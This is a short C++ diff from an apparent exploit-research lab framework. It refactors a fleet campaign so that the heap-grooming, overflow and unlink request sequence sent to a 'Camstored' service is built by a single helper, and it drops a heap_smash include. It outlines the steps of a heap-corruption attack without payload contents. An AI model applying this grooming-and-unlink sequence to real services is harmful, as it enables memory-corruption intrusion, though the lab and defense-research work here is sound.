@@ -13,7 +13,6 @@
 #include "src/attack/battery.hpp"
 #include "src/defense/canary.hpp"
 #include "src/exploit/generator.hpp"
-#include "src/exploit/heap_smash.hpp"
 #include "src/obs/obs.hpp"
 #include "src/util/parallel.hpp"
 
@@ -124,14 +123,7 @@ util::Result<FleetResult> RunFleetCampaign(const FleetConfig& config) {
                                lab_daemon.ProfileFor());
       CONNLAB_ASSIGN_OR_RETURN(const exploit::HeapUnlinkPlan plan,
                                exploit::BuildHeapUnlinkPlan(profile));
-      service_requests.push_back(
-          adapt::Camstored::WrapInPut(plan.benign_body, "pad",
-                                      plan.groom_size));
-      service_requests.push_back(adapt::Camstored::WrapInPut(
-          plan.victim_body, "vic", plan.victim_size));
-      service_requests.push_back(adapt::Camstored::WrapInPut(
-          plan.overflow_body, "pad", plan.groom_size));
-      service_requests.push_back(adapt::Camstored::WrapInDelete("vic"));
+      service_requests = adapt::Camstored::UnlinkVolley(plan);
       break;
     }
   }
